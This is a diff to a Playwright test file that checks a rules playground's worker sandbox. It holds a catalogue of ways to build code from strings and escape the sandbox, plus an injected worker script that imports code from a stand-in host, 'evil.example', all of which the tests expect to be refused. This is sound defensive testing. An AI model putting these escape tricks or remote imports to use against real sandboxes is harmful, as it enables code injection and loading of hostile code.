@@ -3,7 +3,9 @@
 import { expect, type Page, test } from "@playwright/test";
 import { strToU8, zipSync } from "fflate";
 import { packing } from "../src/components/playground/keep/link.ts";
-import { attacks } from "../tests/support/attacks.ts";
+import { allowedGlobals, allowedOfNavigator } from "../src/worker/allowed.ts";
+import { attacks } from "../tests/attacks/rules.ts";
+import { storedNames, watch } from "./hostile.ts";
 import { editorOf, openKeeping, workshopThreads, writtenIn } from "./support.ts";
 
 const path = "rules/own/game.regel";
@@ -11,37 +13,6 @@ const path = "rules/own/game.regel";
 /** A link as somebody might make it by hand, with any name and any files. */
 async function linkTo(name: string, files: readonly (readonly [string, string])[]) {
   return `#v1?rules=x&work=${await packing.pack(JSON.stringify({ name, files }))}`;
-}
-
-/** Notes down all that a page must not do. */
-function watch(page: Page): string[] {
-  const seen: string[] = [];
-  page.on("dialog", async (dialog) => {
-    seen.push(`dialog: ${dialog.message()}`);
-    await dialog.dismiss();
-  });
-  page.on("pageerror", ({ message }) => seen.push(`error: ${message}`));
-  page.on("popup", () => seen.push("popup"));
-  page.on("request", (request) => {
-    const url = new URL(request.url());
-    const isOwn = url.hostname === "localhost" || url.protocol === "blob:";
-    if (!isOwn || request.method() !== "GET") seen.push(`request: ${request.url()}`);
-  });
-  page.on("console", (message) => {
-    if (/Content Security Policy/i.test(message.text())) seen.push(`policy: ${message.text()}`);
-  });
-  return seen;
-}
-
-/** What the browser keeps for the site. */
-async function kept(page: Page): Promise<string[]> {
-  return page.evaluate(async () => [
-    ...Object.keys(localStorage),
-    ...Object.keys(sessionStorage),
-    document.cookie,
-    ...(await indexedDB.databases()).map(({ name }) => name ?? ""),
-    ...(await caches.keys()),
-  ]);
 }
 
 /** The page goes on: what is typed stands in the editor. */
@@ -82,7 +53,7 @@ for (let part = 0; part < parts; part++) {
       });
     }
     const own = ["regelwerk/workshop-start", "", "regelwerk-playground"];
-    expect(await kept(page)).toEqual(["secret", ...own]);
+    expect(await storedNames(page)).toEqual(["secret", ...own]);
     expect(seen).toEqual([]);
   });
 }
@@ -246,13 +217,13 @@ test("a thread that comes to no end is stopped, and the editor goes on", async (
   });
   await page.goto("/en/playground/own/#new");
   const begin = page.locator(".see form button[type=submit]");
-  await expect(begin).toBeVisible({ timeout: 30_000 });
+  await expect(begin).toBeVisible();
   await begin.click();
   await expect(page.locator(".decision h2")).toBeVisible();
 
   await stillWrites(page, `// ${mark}\n`);
   const alert = page.locator(".halted[role=alert]");
-  await expect(alert).toContainText("more than 8 seconds", { timeout: 20_000 });
+  await expect(alert).toContainText("more than 8 seconds");
   await expect(alert).toContainText("Change what you wrote last");
   await stillWrites(page, "// more\n");
   await expect(alert).toBeVisible();
@@ -262,35 +233,101 @@ test("a thread that comes to no end is stopped, and the editor goes on", async (
   await editorOf(page).focus();
   await page.keyboard.press("Control+a");
   await page.keyboard.insertText(mended);
-  await expect(alert).toHaveCount(0, { timeout: 30_000 });
+  await expect(alert).toHaveCount(0);
   await expect(page.locator(".decision h2")).toBeVisible();
 });
 
-test("threads that run rules have no way out", async ({ page }) => {
+test("threads that run rules have only what is allowed, whatever the browser offers", async ({
+  page,
+}) => {
   await page.goto("/en/playground/burgundy/#gallery=watchtowerFive");
   await expect(page.locator(".head .name")).toHaveText("Watchtowers count 5");
-  await expect.poll(() => page.workers().length).toBeGreaterThan(0);
+  await expect.poll(() => page.workers().length).toBeGreaterThan(1);
   for (const thread of page.workers()) {
     const open = await thread.evaluate(() => {
-      const names = [
-        ...["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "WebTransport", "indexedDB"],
-        ...["caches", "importScripts", "BroadcastChannel", "Worker", "SharedWorker", "FontFace"],
-      ];
-      const scope: Record<string, unknown> = Object.assign(Object.create(globalThis));
-      const ofNavigator = ["sendBeacon", "storage", "serviceWorker", "locks"];
-      return [
-        ...names.filter((name) => scope[name] !== undefined),
-        ...ofNavigator.filter((name) => Reflect.get(navigator, name) !== undefined),
-        ...names.filter((name) => {
-          try {
-            Reflect.set(globalThis, name, 1);
-            return Reflect.get(globalThis, name) !== undefined;
-          } catch {
-            return false;
-          }
-        }),
-      ];
+      // Own and inherited names that have a value, and those that take one again.
+      const openIn = (thing: object) => {
+        const names = new Set<string>();
+        for (let at: object | null = thing; at !== null; at = Object.getPrototypeOf(at)) {
+          for (const name of Object.getOwnPropertyNames(at)) names.add(name);
+        }
+        return [...names].filter((name) => {
+          if (Reflect.get(thing, name) !== undefined) return true;
+          const { configurable, writable } = Object.getOwnPropertyDescriptor(thing, name) ?? {};
+          return configurable !== false || writable !== false;
+        });
+      };
+      return { globals: openIn(globalThis), ofNavigator: openIn(navigator) };
     });
-    expect(open, thread.url()).toEqual([]);
+    const handlers = /^on[a-z]+$/; // Nothing is set there; their names are listed all the same.
+    const excess = (names: readonly string[], allowed: ReadonlySet<string>) =>
+      names.filter((name) => !allowed.has(name) && !handlers.test(name));
+    expect(open.globals.length, thread.url()).toBeGreaterThan(80);
+    expect(excess(open.globals, allowedGlobals), thread.url()).toEqual([]);
+    expect(excess(open.ofNavigator, allowedOfNavigator), thread.url()).toEqual([]);
   }
+});
+
+test("programs from text load nothing, by whatever they are made", async ({ page }) => {
+  await page.goto("/en/playground/own/#new");
+  await expect.poll(() => page.workers().length).toBeGreaterThan(1);
+  for (const thread of page.workers()) {
+    const made = await thread.evaluate(async () => {
+      // The word itself may not stand in what a test evaluates here, either.
+      const body = `return ${["im", "port"].join("")}("data:text/javascript,1")`;
+      const asynchronous = Object.getPrototypeOf(async () => {}).constructor;
+      const generator = Object.getPrototypeOf(function* () {}).constructor;
+      const twice = { toString: () => (twice.asked++ > 0 ? body : "1"), asked: 0 };
+      const ways: Readonly<Record<string, () => unknown>> = {
+        Function: () => new Function(body)(),
+        call: () => Function(body)(),
+        constructor: () => (() => {}).constructor(body)(),
+        async: () => asynchronous(body)(),
+        generator: () => generator(body)().next(),
+        parent: () => Object.getPrototypeOf(asynchronous)(body)(),
+        subclass: () => new (class extends Function {})(body)(),
+        construct: () => Reflect.construct(Function, [body])(),
+        eval: () => Reflect.get(globalThis, "eval")(body.replace("return ", "")),
+        parameter: () => new Function(`a = ${body.replace("return ", "")}`, "")(),
+        twice: () => new Function(twice as unknown as string)()?.then(),
+        timer: () => Reflect.apply(setTimeout, undefined, [body.replace("return ", "")]),
+      };
+      const open: string[] = [];
+      for (const [name, way] of Object.entries(ways)) {
+        try {
+          if ((await way()) !== undefined) open.push(name);
+        } catch {
+          // It was refused, as it should be.
+        }
+      }
+      return { open, evaluates: new Function("return 2")() };
+    });
+    expect(made, thread.url()).toEqual({ open: [], evaluates: 2 });
+  }
+});
+
+test("a thread's own response forbids scripts from elsewhere, also to what is not locked", async ({
+  page,
+}) => {
+  const addresses: string[] = [];
+  page.on("worker", (thread) => addresses.push(thread.url()));
+  await page.goto("/en/playground/own/#new");
+  await expect.poll(() => addresses.length).toBeGreaterThan(1);
+  const [address = ""] = addresses;
+  // A script without the lock, under the headers of the thread's.
+  await page.route(address, async (route) => {
+    const response = await route.fetch();
+    const body = `Promise.allSettled([import("data:text/javascript,1"), import("https://evil.example/x.js")])
+      .then((all) => postMessage(all.map(({ status }) => status)));`;
+    await route.fulfill({ response, body });
+  });
+  const loaded = await page.evaluate(
+    (address) =>
+      new Promise((resolve) => {
+        const thread = new Worker(address, { type: "module" });
+        thread.onmessage = ({ data }) => resolve(data);
+      }),
+    address,
+  );
+  expect(loaded).toEqual(["rejected", "rejected"]);
 });
